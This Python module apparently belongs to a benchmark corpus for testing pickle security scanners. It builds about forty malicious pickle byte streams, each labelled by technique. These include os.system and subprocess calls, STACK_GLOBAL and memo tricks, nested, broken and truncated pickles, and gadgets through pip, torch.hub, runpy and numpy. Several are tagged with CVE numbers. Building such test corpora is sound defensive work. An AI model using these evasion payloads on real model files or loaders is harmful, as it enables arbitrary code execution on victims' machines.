"""Raw malicious pickles of the first release, one technique class each."""

from __future__ import annotations

import pickle

from benchmarks.corpus import build as b
from benchmarks.corpus.sample import ECHO


def payloads() -> list[tuple[str, bytes, str]]:
    """Raw malicious pickles, each a technique class."""
    p = b.proto
    return [
        ("os-system-p0", b.call_pickle("os", "system", ECHO, 0), "GLOBAL+REDUCE"),
        ("posix-system-p2", b.call_pickle("posix", "system", ECHO), "GLOBAL+REDUCE"),
        ("builtins-eval", b.call_pickle("builtins", "eval", "1+1"), "eval"),
        ("builtin-compat", b.call_pickle("__builtin__", "exec", "pass"), "py2 name mapping"),
        ("stack-global", b.stack_global_call("subprocess", "getoutput", ECHO), "STACK_GLOBAL"),
        (
            "stack-global-memo",
            p(
                4,
                b.sbu("os")
                + b"\x94"
                + b.sbu("system")
                + b"\x94"
                + b"h\x00h\x01\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "STACK_GLOBAL from memo",
        ),
        (
            "stack-global-binstring",
            p(4, b"U\x02osU\x06system\x93" + b.sbu(ECHO) + b"\x85R."),
            "STACK_GLOBAL from BINSTRING",
        ),
        (
            "stack-global-unicode",
            p(4, b"Vos\nVsystem\n\x93" + b.sbu(ECHO) + b"\x85R."),
            "STACK_GLOBAL from UNICODE",
        ),
        (
            "stack-global-computed",
            p(
                4,
                b.global0("builtins", "str")
                + b")R"
                + b.sbu("system")
                + b"\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "computed STACK_GLOBAL operand",
        ),
        ("inst", b"(S'" + ECHO.encode() + b"'\nios\nsystem\n.", "INST"),
        ("obj", b"(cos\nsystem\nS'" + ECHO.encode() + b"'\no.", "OBJ"),
        (
            "newobj",
            p(2, b.global0("subprocess", "Popen") + b"(" + b.sbu("ls") + b"\x85t\x81."),
            "NEWOBJ",
        ),
        (
            "newobj-ex",
            p(4, b.global0("subprocess", "Popen") + b.sbu("ls") + b"\x85}\x92."),
            "NEWOBJ_EX",
        ),
        (
            "build-setstate",
            p(
                2,
                b.global0("collections", "OrderedDict")
                + b")R}"
                + b.sbu("__setstate__")
                + b.global0("os", "system")
                + b"sb.",
            ),
            "BUILD __setstate__",
        ),
        (
            "build-on-global",
            p(2, b.global0("collections", "OrderedDict") + b"}" + b.sbu("fromkeys") + b"K\x01sb."),
            "BUILD on a class",
        ),
        ("ext1", p(2, b"\x82\x01)R."), "EXT1"),
        ("ext2", p(2, b"\x83\x01\x02)R."), "EXT2"),
        ("ext4", p(2, b"\x84\x01\x02\x03\x04)R."), "EXT4"),
        (
            "nested-pickle",
            p(
                3,
                b.global0("pickle", "loads")
                + b"C"
                + bytes([len(inner := b.call_pickle("os", "system", ECHO))])
                + inner
                + b"\x85R.",
            ),
            "nested pickle",
        ),
        (
            "second-pickle",
            pickle.dumps({"ok": 1}, 2) + b.call_pickle("os", "system", ECHO),
            "two pickles in one stream",
        ),
        (
            "broken-after-payload",
            b.call_pickle("os", "system", ECHO)[:-1] + b"\xff",
            "nullifAI broken pickle",
        ),
        ("truncated-after-payload", b.call_pickle("os", "system", ECHO)[:-2], "truncated stream"),
        ("pip-main", b.call_pickle("pip", "main", "install evil"), "CVE-2025-1716"),
        ("runpy", b.call_pickle("runpy", "_run_code", "print(1)"), "runpy gadget"),
        ("timeit", b.call_pickle("timeit", "timeit", "print(1)"), "timeit gadget"),
        ("pydoc-locate", b.call_pickle("pydoc", "locate", "os.system"), "pydoc gadget"),
        (
            "operator-methodcaller",
            b.call_pickle("operator", "methodcaller", "system"),
            "operator gadget",
        ),
        ("functools-partial", b.call_pickle("functools", "partial", "x"), "functools gadget"),
        ("torch-hub", b.call_pickle("torch.hub", "load", "evil/repo"), "torch.hub gadget"),
        (
            "numpy-runstring",
            b.call_pickle("numpy.testing._private.utils", "runstring", "import os"),
            "numpy gadget",
        ),
        (
            "asyncio-subprocess",
            b.call_pickle("asyncio.unix_events", "_UnixSubprocessTransport", "x"),
            "CVE-2025-10157 subclass",
        ),
        (
            "dotted-traversal",
            p(
                4,
                b.sbu("torch")
                + b.sbu("serialization.os.system")
                + b"\x93"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "dotted name traversal",
        ),
        (
            "allowed-module-bad-name",
            b.call_pickle("collections", "_sys", "x"),
            "allowed module, other name",
        ),
        (
            "getattr-chain",
            p(
                2,
                b.global0("builtins", "getattr")
                + b"("
                + b.global0("builtins", "__import__")
                + b.sbu("os")
                + b"\x85R"
                + b.sbu("system")
                + b"tR"
                + b.sbu(ECHO)
                + b"\x85R.",
            ),
            "getattr gadget",
        ),
        (
            "call-computed",
            p(2, b.global0("collections", "OrderedDict") + b")R)R."),
            "call of a call result",
        ),
        (
            "mutate-global",
            p(2, b.global0("collections", "OrderedDict") + b.sbu("k") + b.sbu("v") + b"s."),
            "SETITEM on a class",
        ),
        ("persistent-id-raw", p(2, b.sbu("x") + b"Q."), "persistent id in a plain pickle"),
        (
            "frame-lie",
            p(4, b"\x95\xff\xff\x00\x00\x00\x00\x00\x00" + b.call_pickle("os", "system", ECHO)[2:]),
            "bad FRAME",
        ),
        ("proto-6", b"\x80\x06" + b.call_pickle("os", "system")[2:], "unsupported protocol"),
    ]


__all__ = ["payloads"]
